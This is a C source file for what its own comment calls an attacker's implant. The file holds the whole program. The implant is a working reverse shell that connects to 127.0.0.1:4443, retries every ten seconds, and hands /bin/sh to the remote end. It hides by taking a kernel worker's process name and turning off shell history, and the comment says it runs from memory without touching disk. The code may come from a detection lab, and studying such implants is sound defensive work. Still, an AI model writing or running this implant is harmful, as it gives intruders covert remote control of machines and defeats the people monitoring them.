/* The attacker's implant: a reverse shell to 127.0.0.1:4443, run from an
 * anonymous memory file (never written to disk) under a kernel thread's name.
 * Tries five times, 10 s apart, then exits; a shell session ends it. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

int main(void)
{
    char *env[] = { "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HISTFILE=/dev/null", "TERM=dumb", 0 };
    prctl(PR_SET_NAME, "kworker/u8:3", 0, 0, 0);
    for (int i = 0; i < 5; i++) {
        struct sockaddr_in a = { 0 };
        int s = socket(AF_INET, SOCK_STREAM, 0);
        a.sin_family = AF_INET;
        a.sin_port = htons(4443);
        a.sin_addr.s_addr = htonl(0x7f000001);
        if (s >= 0 && connect(s, (struct sockaddr *)&a, sizeof a) == 0) {
            pid_t p = fork();
            if (p == 0) {
                dup2(s, 0); dup2(s, 1); dup2(s, 2);
                close(s);
                execle("/bin/sh", "sh", (char *)0, env);
                _exit(127);
            }
            close(s);
            if (p > 0) waitpid(p, 0, 0);
            return 0;
        }
        if (s >= 0) close(s);
        sleep(10);
    }
    return 0;
}
